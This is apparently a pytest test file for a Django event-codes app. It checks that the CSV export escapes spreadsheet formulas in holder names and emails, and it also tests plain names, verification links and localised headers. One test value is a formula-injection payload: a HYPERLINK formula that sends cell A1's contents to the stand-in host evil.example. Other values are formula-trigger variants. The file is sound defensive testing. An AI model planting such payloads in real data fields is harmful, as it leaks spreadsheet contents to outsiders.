"""The provider's CSV of an event's codes opens in a spreadsheet as text, whatever attendees typed."""

import csv
import io

import pytest
from django.urls import reverse

from codes.format import generate_codes
from codes.models import IcpCode

from ..factories import EventFactory, MembershipFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Click")',
        "+7 999 123-45-67",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # full-width equals sign, folded to "=" by spreadsheet applications
    ],
)
def test_codes_export_escapes_formulas_in_names_and_emails(client, typed):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name=typed, holder_email=typed)
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")

    [header, row] = list(csv.reader(io.StringIO(export), delimiter=";"))
    assert row[header.index("Имя владельца")] == "'" + typed
    assert row[header.index("E-mail владельца")] == "'" + typed


def test_codes_export_leaves_ordinary_names_as_they_are(client):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="maria@example.org")
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")

    assert "Петрова Мария;maria@example.org" in export


def test_codes_export_gives_each_code_its_public_check_page(client):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    icp = IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="m@example.org")
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")

    [header, row] = list(csv.reader(io.StringIO(export), delimiter=";"))
    assert row[header.index("Страница проверки")] == f"http://testserver/verify/{icp.verify_token}/" == icp.verify_url()


def test_codes_export_speaks_the_language_of_the_interface(client, settings):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="m@example.org")
    client.force_login(event.organization.memberships.get().user)

    ru = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    en = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")

    [ru_header, ru_row] = list(csv.reader(io.StringIO(ru), delimiter=";"))
    [en_header, en_row] = list(csv.reader(io.StringIO(en), delimiter=";"))
    assert ru_header[:3] == ["Код", "Статус", "Имя владельца"]
    assert en_header[:3] == ["Code", "Status", "Holder's name"]
    assert (ru_row[1], en_row[1]) == ("Выдан", "Issued")
